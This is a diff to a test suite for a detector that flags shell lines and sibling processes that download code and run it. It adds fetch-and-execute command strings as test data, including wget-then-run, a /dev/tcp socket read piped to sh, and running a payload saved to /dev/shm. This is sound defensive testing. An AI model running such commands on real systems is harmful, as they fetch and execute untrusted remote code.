@@ -20,6 +20,8 @@ describe("a download that the same line runs", () => {
     "wget http://192.0.2.4/q; cat q > r; chmod +x *; ./r",
     "renamed -sL http://files.example/i | bash",
     "python3 -c \"import urllib.request as u; exec(u.urlopen('http://files.example/i').read())\"",
+    "wget http://203.0.113.9/k.tgz; tar xzf k.tgz; cd k; ./run",
+    "exec 5<>/dev/tcp/192.0.2.4/80; echo x >&5; cat <&5 | sh",
     "ssh host 'curl http://files.example/i | sh'",
   ])("%s", (line) => {
     expect(clear(new ShellHost(downloadThenRun).line(line))).toHaveLength(1);
@@ -29,6 +31,8 @@ describe("a download that the same line runs", () => {
     "curl -s http://files.example/key | gpg --dearmor > k.gpg",
     "wget -qO- http://files.example/a.tgz | tar xz",
     "curl -O http://files.example/a.tgz && tar xf a.tgz && cd a && ./configure",
+    "curl -O http://203.0.113.9/a.tgz && tar xf a.tgz && cd a && ./configure && make",
+    "exec 5<run.sh; cat <&5 | sh",
     "curl http://localhost/health | sh",
     "curl -s http://files.example/a.json | python3 -c 'import json'",
     "wget http://files.example/a.deb && dpkg -i a.deb",
@@ -60,6 +64,9 @@ describe("a download that children of one parent run", () => {
     const reverse = new ShellHost(downloadThenRunSiblings);
     reverse.run("bash -s x");
     expect(reverse.run("wget -qO- http://files.example/i")).toHaveLength(1);
+    const substituted = new ShellHost(downloadThenRunSiblings);
+    substituted.run("curl -s http://files.example/i");
+    expect(substituted.run("bash /dev/fd/63")).toHaveLength(1);
   });
 
   test("later than that, from another parent, or saved to a file, they are no pipe", () => {
@@ -83,6 +90,12 @@ describe("a download that children of one parent run", () => {
     expect(clear(host.run("./bot"))).toHaveLength(1);
     host.now += 1;
     expect(host.run("./bot")).toEqual([]);
+  });
+
+  test("also from shared memory", () => {
+    const host = new ShellHost(downloadThenRunSiblings);
+    host.run("curl -s http://192.0.2.4/bot -o /dev/shm/q");
+    expect(host.run("/dev/shm/q")).toHaveLength(1);
   });
 
   test("a file that the shell opened for a fetcher counts as fetched", () => {
